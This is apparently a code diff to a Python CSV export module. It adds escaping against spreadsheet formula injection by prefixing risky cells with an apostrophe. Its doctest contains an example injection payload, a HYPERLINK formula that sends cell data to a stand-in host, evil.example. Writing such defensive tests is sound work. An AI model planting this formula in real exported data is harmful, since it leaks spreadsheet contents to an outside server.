@@ -1,9 +1,19 @@
-"""CSV: one row per record, the forms of each title or name joined with " = " so no script is lost."""
+"""CSV: one row per record, the forms of each title or name joined with " = " so no script is lost.
+
+Cells a spreadsheet would run as a formula are escaped as OWASP's CSV-injection guidance says: a cell that
+begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which Excel,
+LibreOffice and Google Sheets read as "this is text" (plain numbers such as a year ``-200`` are left alone: a
+spreadsheet reads them as the number they are, nothing runs).
+
+    >>> print(csv_line(["nlb:1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "-200", "@SUM(A1)"]), end="")
+    nlb:1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-200,'@SUM(A1)
+"""
 
 from __future__ import annotations
 
 import csv
 import io
+import re
 
 from tongwen.export.citations import joined
 from tongwen.export.common import display_date, links_of, publication_forms
@@ -46,7 +56,18 @@ def csv_row(record: Record) -> list[str]:
     return [values[name] for name in CSV_COLUMNS]
 
 
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
+
+
+def spreadsheet_safe(value: str) -> str:
+    """The cell text with a leading apostrophe when a spreadsheet would take it for a formula."""
+    if value.startswith(_FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
 def csv_line(values: list[str] | tuple[str, ...]) -> str:
     buffer = io.StringIO()
-    csv.writer(buffer, lineterminator="\r\n").writerow(values)  # RFC 4180 line ends
+    csv.writer(buffer, lineterminator="\r\n").writerow([spreadsheet_safe(v) for v in values])  # RFC 4180 ends
     return buffer.getvalue()
